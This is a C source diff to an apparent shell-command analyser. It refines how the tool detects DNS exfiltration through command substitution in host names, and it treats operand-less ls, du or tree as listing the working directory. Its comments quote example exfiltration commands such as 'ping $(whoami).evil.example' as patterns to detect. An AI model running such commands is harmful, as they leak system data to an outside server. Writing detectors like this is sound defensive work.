@@ -136,6 +136,27 @@ static void known_host_parts(sh_ctx *c, pe_str h)
     }
 }
 
+/* A host whose name holds a substitution under a fixed domain
+ * ($(whoami).x.example): its authoritative server learns the output. A
+ * host that is all substitution (ping $(docker inspect ...)) is only an
+ * address computed at run time. */
+static int carries_data(pe_str h)
+{
+    size_t last = 0;
+    int sub = 0;
+    for (size_t i = 0; i < h.len; i++)
+        if (h.s[i] == '$' || h.s[i] == '`' || h.s[i] == ')') {
+            sub = 1;
+            last = i + 1;
+        }
+    if (!sub)
+        return 0;
+    pe_str rest = {h.s + last, h.len - last};
+    const char *dot = memchr(rest.s, '.', rest.len);
+    /* a dot and a label after it: ".evil.example", ".x.io" */
+    return dot && (size_t)(dot - rest.s) + 1 < rest.len;
+}
+
 /* A name made by a substitution is a lookup that carries data out (DNS
  * exfiltration: ping $(whoami).evil.example). */
 int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int style)
@@ -150,7 +171,7 @@ int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int sty
     if (u.host.kind == PE_HOST_NONE)
         return 0;
     const pe_str *h = &u.host.text;
-    if ((wflags & PE_SHELL_W_CMDSUB) && (memchr(h->s, '$', h->len) || memchr(h->s, '`', h->len)))
+    if ((wflags & PE_SHELL_W_CMDSUB) && carries_data(*h))
         c->flags |= PE_SHELL_DNS_EXFIL;
     sh_strs_add(c, &c->urls, t, 0);
     sh_add_host(c, &u.host);
@@ -473,6 +494,12 @@ void sh_operand_roles(sh_ctx *c, const sh_cmd *sc, const sh_know *k, sh_walk *wk
     size_t n = wk->nops;
     if (wk->edit && op == OP_READ)
         op = OP_EDIT;
+    if (op == OP_LIST && n == first && !(sc->pub.flags & PE_SHELL_C_STDIN_PIPE)) {
+        /* ls, du, tree with no operand: the working directory */
+        pe_str here = {".", 1};
+        sh_path_in(c, sc->scope, wk->w, here, 0, PE_SHELL_P_LIST);
+        return;
+    }
     for (size_t i = first; i < n; i++) {
         size_t j = wk->ops[i];
         int last = i + 1 == n && n - first > 1;
